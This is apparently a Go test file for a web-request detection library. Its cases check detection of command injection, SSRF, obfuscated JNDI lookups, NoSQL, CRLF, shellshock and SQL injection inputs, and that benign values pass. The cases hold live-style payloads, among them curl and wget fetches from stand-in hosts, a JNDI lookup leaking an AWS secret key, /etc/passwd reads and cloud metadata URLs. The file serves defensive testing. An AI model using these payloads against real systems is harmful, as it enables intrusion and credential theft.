package inspect_test

import (
	"net/url"
	"testing"

	"github.com/vigil-project/vigil/detect/inspect"
)

type sigCase struct {
	name, value string
	kind        inspect.Kind
	detector    string
}

// runValue checks each value in a query parameter (URL-encoded as a
// client would send it).
func runValue(t *testing.T, cases []sigCase) {
	t.Helper()
	in := inspect.New(inspect.Config{})
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := in.Request(&inspect.RequestView{Method: "GET", Path: "/x", Query: "v=" + url.QueryEscape(c.value)}, nil)
			if f.Kind != c.kind || c.detector != "" && f.Detector != c.detector {
				t.Errorf("%q: %q/%s, want %q/%s", c.value, f.Kind, f.Detector, c.kind, c.detector)
			}
		})
	}
}

func TestCommandInjection(t *testing.T) {
	runValue(t, []sigCase{
		{"semicolon id", "a;id", inspect.CommandInjection, inspect.DetCommand},
		{"pipe with path", "a);/usr/bin/id|", inspect.CommandInjection, inspect.DetCommand},
		{"sleep", "; /bin/sleep 31 ;", inspect.CommandInjection, inspect.DetCommand},
		{"and and", "x && cat /etc/hosts", inspect.CommandInjection, ""},
		{"backticks", "`whoami`", inspect.CommandInjection, inspect.DetSubstitution},
		{"dollar paren", "$(curl http://x.example/s.sh)", inspect.CommandInjection, inspect.DetSubstitution},
		{"newline", "1\nwget http://x.example", inspect.CommandInjection, inspect.DetCommand},
		{"ifs", "cat${IFS}x", inspect.CommandInjection, inspect.DetCommand},
		{"windows exe", "| cmd.exe /c dir", inspect.CommandInjection, inspect.DetCommand},
		{"ssi", `<!--#exec cmd="/bin/cat /etc/passwd"-->`, inspect.CommandInjection, inspect.DetSSI},
		{"shellshock", "() { :; }; /bin/bash -c 'id'", inspect.CommandInjection, inspect.DetShellshock},
		{"shellshock spaced", "( ) {  x; }", inspect.CommandInjection, inspect.DetShellshock},
		{"prose with semicolon", "fragile; handle with care", inspect.KindNone, ""},
		{"tom and jerry", "Tom & Jerry | season 2", inspect.KindNone, ""},
		{"price", "$(5) discount", inspect.KindNone, ""},
	})
}

func TestSSRFTargets(t *testing.T) {
	runValue(t, []sigCase{
		{"aws metadata", "http://169.254.169.254/latest/meta-data/iam/", inspect.SSRF, inspect.DetSSRFMetadata},
		{"gcp metadata", "http://metadata.google.internal/computeMetadata/v1/", inspect.SSRF, inspect.DetSSRFMetadata},
		{"metadata bare", "169.254.169.254", inspect.SSRF, inspect.DetSSRFMetadata},
		{"metadata decimal", "http://2852039166/latest", inspect.SSRF, inspect.DetSSRFMetadata},
		{"aws ipv6 metadata", "http://[fd00:ec2::254]/latest", inspect.SSRF, inspect.DetSSRFMetadata},
		{"loopback", "http://127.0.0.1:8080/admin", inspect.SSRF, inspect.DetSSRFInternal},
		{"loopback short", "http://127.1/", inspect.SSRF, inspect.DetSSRFInternal},
		{"loopback decimal", "http://2130706433/", inspect.SSRF, inspect.DetSSRFInternal},
		{"loopback hex", "http://0x7f000001/", inspect.SSRF, inspect.DetSSRFInternal},
		{"loopback octal", "http://0177.0.0.1/", inspect.SSRF, inspect.DetSSRFInternal},
		{"ipv6 mapped", "http://[::ffff:127.0.0.1]/", inspect.SSRF, inspect.DetSSRFInternal},
		{"ipv6 loopback", "https://[::1]:443/", inspect.SSRF, inspect.DetSSRFInternal},
		{"private with userinfo", "http://user@10.0.0.5/x", inspect.SSRF, inspect.DetSSRFInternal},
		{"private 172", "//172.16.3.4/", inspect.KindNone, ""},
		{"localhost", "http://localhost/server-status", inspect.SSRF, inspect.DetSSRFInternal},
		{"file", "file:///etc/passwd", inspect.SSRF, inspect.DetSSRFScheme},
		{"gopher", "gopher://127.0.0.1:6379/_INFO", inspect.SSRF, inspect.DetSSRFScheme},
		{"dict", "dict://10.0.0.1:11211/stat", inspect.SSRF, inspect.DetSSRFScheme},
		{"public url", "https://shop.example.com/img/1.png?w=200", inspect.KindNone, ""},
		{"public ip", "http://93.184.216.34/", inspect.KindNone, ""},
		{"time", "10:30", inspect.KindNone, ""},
		{"version", "1.2.3.4", inspect.KindNone, ""},
	})
}

func TestJNDILookupsAndObfuscations(t *testing.T) {
	runValue(t, []sigCase{
		{"plain", "${jndi:ldap://evil.example/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"upper", "${JNDI:rmi://evil.example/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"lower lookup", "${${lower:j}ndi:ldap://evil.example/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"every letter", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"empty default", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"env default", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"upper lookup", "${${upper:j}ndi:dns://x/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"date", "${${date:'j'}${date:'n'}di:ldap://x}", inspect.JNDIInjection, inspect.DetJNDI},
		{"nested exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x/a}", inspect.JNDIInjection, inspect.DetJNDI},
		{"url encoded", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", inspect.JNDIInjection, inspect.DetJNDI},
		{"template", "Hello ${name}, total ${total}", inspect.KindNone, ""},
	})
}

func TestNoSQLOperators(t *testing.T) {
	in := inspect.New(inspect.Config{})
	cases := []struct {
		name  string
		r     inspect.RequestView
		kind  inspect.Kind
		where string
	}{
		{"query key ne", inspect.RequestView{Method: "GET", Path: "/login", Query: "user=admin&password[$ne]=x"}, inspect.NoSQLInjection, "query.password[$ne]"},
		{"query key gt", inspect.RequestView{Method: "GET", Path: "/u", Query: "age%5B%24gt%5D="}, inspect.NoSQLInjection, "query.age[$gt]"},
		{"json key", inspect.RequestView{Method: "POST", Path: "/login", ContentType: "application/json", Body: []byte(`{"user":"admin","password":{"$ne":null}}`)}, inspect.NoSQLInjection, "body.password"},
		{"json where", inspect.RequestView{Method: "POST", Path: "/q", ContentType: "application/json", Body: []byte(`{"filter":{"$where":"sleep(1000)"}}`)}, inspect.NoSQLInjection, "body.filter"},
		{"value where", inspect.RequestView{Method: "GET", Path: "/q", Query: "f=" + url.QueryEscape(`{"$where": "this.a == 1"}`)}, inspect.NoSQLInjection, "query.f"},
		{"value regex", inspect.RequestView{Method: "GET", Path: "/q", Query: "u=" + url.QueryEscape(`{"$regex": ".*"}`)}, inspect.NoSQLInjection, "query.u"},
		{"price", inspect.RequestView{Method: "GET", Path: "/q", Query: "note=" + url.QueryEscape("costs $ne 5, $gt")}, inspect.KindNone, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := in.Request(&c.r, nil)
			if f.Kind != c.kind || c.where != "" && f.KeyPath() != c.where {
				t.Errorf("%v at %q (%s), want %v at %q", f.Kind, f.KeyPath(), f.Detector, c.kind, c.where)
			}
		})
	}
}

func TestCRLFInjection(t *testing.T) {
	runValue(t, []sigCase{
		{"set cookie", "x\r\nSet-Cookie: sid=evil", inspect.CRLFInjection, inspect.DetCRLF},
		{"lf only", "/home\nLocation: http://evil.example", inspect.CRLFInjection, inspect.DetCRLF},
		{"split", "x\r\n\r\n<html>", inspect.CRLFInjection, inspect.DetCRLFSplit},
		{"encoded", "%0d%0aX-Injected:%201", inspect.CRLFInjection, inspect.DetCRLF},
		{"unicode encoded", `\u000d\u000aSet-Cookie: a=b`, inspect.CRLFInjection, inspect.DetCRLF},
	})
	in := inspect.New(inspect.Config{})
	body := func(s string) *inspect.RequestView {
		return &inspect.RequestView{Method: "POST", Path: "/c", ContentType: "application/json", Body: []byte(`{"text":"` + s + `"}`)}
	}
	if f := in.Request(body(`Dear team,\nNote: the parcel was late.\nThanks`), nil); f.Kind != inspect.KindNone {
		t.Errorf("a letter in a body flagged %v (%s)", f.Kind, f.Detector)
	}
	if f := in.Request(body(`x\r\nSet-Cookie: a=b`), nil); f.Kind != inspect.CRLFInjection {
		t.Errorf("Set-Cookie in a body: %v", f.Kind)
	}
}

func TestSignaturesInHeadersAndCookies(t *testing.T) {
	in := inspect.New(inspect.Config{})
	cases := []struct {
		name  string
		r     inspect.RequestView
		kind  inspect.Kind
		where string
	}{
		{"shellshock ua", inspect.RequestView{Path: "/cgi-bin/x", UserAgent: "() { :; }; echo; /bin/cat /etc/passwd"}, inspect.CommandInjection, "header.user-agent"},
		{"jndi ua", inspect.RequestView{Path: "/", UserAgent: "${${lower:j}ndi:ldap://x/a}"}, inspect.JNDIInjection, "header.user-agent"},
		{"jndi referer", inspect.RequestView{Path: "/", Referer: "${jndi:dns://x}"}, inspect.JNDIInjection, "header.referer"},
		{"sqli cookie", inspect.RequestView{Path: "/", Cookie: "theme=dark; lang=en'%20or%201=1--"}, inspect.SQLInjection, "cookie.lang"},
		{"browser", inspect.RequestView{Path: "/", UserAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", Referer: "https://shop.example.com/search?q=shoes&page=2", Cookie: "sid=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5; consent=1"}, inspect.KindNone, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := in.Request(&c.r, nil)
			if f.Kind != c.kind || c.where != "" && f.KeyPath() != c.where {
				t.Errorf("%v at %q (%s), want %v at %q", f.Kind, f.KeyPath(), f.Detector, c.kind, c.where)
			}
		})
	}
}

func TestSQLInjectionBeyondLibinjection(t *testing.T) {
	runValue(t, []sigCase{
		{"stacked waitfor", "1;waitfor delay '0:0:5'", inspect.SQLInjection, ""},
		{"sleep subquery", "1');(select * from (select(sleep(5)))srmq)#", inspect.SQLInjection, ""},
		{"no quote", "1 or 1=1", inspect.SQLInjection, ""},
		{"prose with sql words", "select a size from the list (or ask us)", inspect.KindNone, ""},
		{"name with quote", "Ann O'Neil", inspect.KindNone, ""},
	})
}
